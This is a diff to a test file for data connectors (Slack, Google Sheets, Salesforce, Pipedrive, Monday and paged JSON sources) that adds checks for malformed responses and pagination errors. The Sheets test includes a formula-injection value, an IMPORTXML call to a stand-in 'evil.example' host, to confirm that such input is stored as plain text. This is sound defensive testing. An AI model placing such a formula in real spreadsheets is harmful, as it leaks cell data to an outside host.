@@ -101,7 +101,7 @@ describe('slack', () => {
     expect(gone).toMatchObject({ message: 'slack: Slack answered 404: no_service', retryable: false })
     service.failNext(1, 500, {}, `no such hook: ${service.webhookUrl}, ${new URL(service.webhookUrl).pathname}`)
     expect((await failing(post())).message).not.toContain('secretsecret')
-    expect(await failing(post({ blocks: [{}] }))).toMatchObject({
+    expect(await failing(post({ blocks: [{ type: 'nonsense' }] }))).toMatchObject({
       message: 'slack: Slack answered 400: invalid_blocks',
     })
   })
@@ -214,18 +214,27 @@ describe('googleSheets.append', () => {
     expect(rows()[4]).toEqual(['', 'Total'])
   })
 
-  it('makes no formula of what others sent, neither in a cell nor in a header', async () => {
+  it('makes no formula and no other number of what others sent, neither in a cell nor in a header', async () => {
     const { append, worksheet } = sheet([['name']])
     const evil = {
       name: '=IMPORTXML("https://evil.example/?"&A1)',
       '=1+1': '+1 (813) 473-3644',
       minus: '-1',
       quoted: "'tis",
+      zip: '02138',
+      order: '1234567890123456789',
     }
     await append(evil)
     expect(worksheet.cells).toEqual([
-      [{ text: 'name' }, { text: '=1+1' }, { text: 'minus' }, { text: 'quoted' }],
-      [{ text: evil.name }, { text: '+1 (813) 473-3644' }, { number: -1 }, { text: "'tis" }],
+      [{ text: 'name' }, { text: '=1+1' }, { text: 'minus' }, { text: 'quoted' }, { text: 'zip' }, { text: 'order' }],
+      [
+        { text: evil.name },
+        { text: evil['=1+1'] },
+        { number: -1 },
+        { text: evil.quoted },
+        { text: evil.zip },
+        { text: evil.order },
+      ],
     ])
   })
 
@@ -487,6 +496,20 @@ describe('crm.salesforce', () => {
     expect(await failing(reader().readPage())).toMatchObject({ status: 403, retryable: true })
   })
 
+  it('takes no answer without records for the end', async () => {
+    for (const body of [{}, [], { records: null, done: true }, { records: {}, done: true }]) {
+      service.failNext(1, 200, {}, body)
+      expect(await failing(all(reader()))).toMatchObject({
+        message: 'crm.salesforce: Salesforce answered 200: no list of records',
+        retryable: false,
+      })
+    }
+    service.failNext(1, 200, {}, { records: [{ Id: '1' }] })
+    expect((await failing(all(reader()))).message).toContain('no next page that is known')
+    service.failNext(1, 200, {}, { records: [], done: true })
+    expect(await all(reader())).toEqual([])
+  })
+
   it('ends where the pages do not', async () => {
     const error = await failing(all(reader({ maxPages: 2 })))
     expect(error).toMatchObject({ retryable: false, message: 'crm.salesforce: there are more than 2 pages' })
@@ -540,6 +563,23 @@ describe('crm.pipedrive', () => {
     const second = await changed.readPage(first.next)
     expect([first.records.length, second.records.length, second.next]).toEqual([60, 40, undefined])
     expect(await failing(reader().readPage('no cursor'))).toMatchObject({ status: 400, retryable: false })
+  })
+
+  it('takes no answer without organizations for the end, but for one that says so', async () => {
+    for (const body of [{}, { data: null }, { success: true }, { success: true, data: {} }]) {
+      service.failNext(1, 200, {}, body)
+      expect(await failing(all(reader()))).toMatchObject({
+        message: 'crm.pipedrive: Pipedrive answered 200: no list of records',
+        retryable: false,
+      })
+    }
+    service.failNext(1, 200, {}, { success: false, data: [], error: 'Scope and URL mismatch' })
+    expect(await failing(all(reader()))).toMatchObject({
+      message: 'crm.pipedrive: Pipedrive answered 200: Scope and URL mismatch',
+      retryable: false,
+    })
+    service.failNext(1, 200, {}, { success: true, data: null, additional_data: { next_cursor: null } })
+    expect(await all(reader())).toEqual([])
   })
 
   it('waits for the end of the window where it asks too often', async () => {
@@ -607,6 +647,14 @@ describe('crm.monday', () => {
     expect(await failing(reader().readPage())).toMatchObject({ retryable: true })
   })
 
+  it('takes no answer without items for the end', async () => {
+    const { next } = await reader().readPage()
+    service.failNext(1, 200, {}, {})
+    expect(await failing(reader().readPage())).toMatchObject({ status: 200, retryable: false })
+    service.failNext(1, 200, {}, { data: { next_items_page: {} } })
+    expect((await failing(reader().readPage(next))).message).toContain('answered without items')
+  })
+
   it('takes a part for none, and a board that is not there for an error', async () => {
     service.failNext(1, 200, {}, { data: { boards: [{ items_page: { items: [] } }] }, errors: [{ message: 'partly' }] })
     expect(await failing(reader().readPage())).toMatchObject({
@@ -664,6 +712,8 @@ describe('jsonPages', () => {
       message: 'jsonPages: The source answered 200: no list of records',
       retryable: false,
     })
+    service.failNext(1, 200, {}, { records: [], next: 2 })
+    expect((await failing(all(reader()))).message).toContain('the next page is no address')
     service.failNext(1, 200, {}, 'Good morning')
     expect(await failing(reader().readPage())).toMatchObject({ retryable: true })
   })
